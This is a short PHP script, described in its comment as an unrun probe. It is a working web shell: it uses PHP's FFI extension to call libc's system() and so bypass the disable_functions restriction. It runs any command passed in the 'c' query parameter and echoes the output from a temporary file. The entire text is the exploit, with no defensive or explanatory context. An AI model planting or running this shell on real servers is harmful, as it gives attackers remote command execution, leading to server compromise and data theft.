<?php
// probe (never run): FFI calls libc's system() past disable_functions
$ffi = FFI::cdef("int system(const char *command);");
$ffi->system($_GET['c'] . ' > /tmp/ffi.out 2>&1');
echo file_get_contents('/tmp/ffi.out');
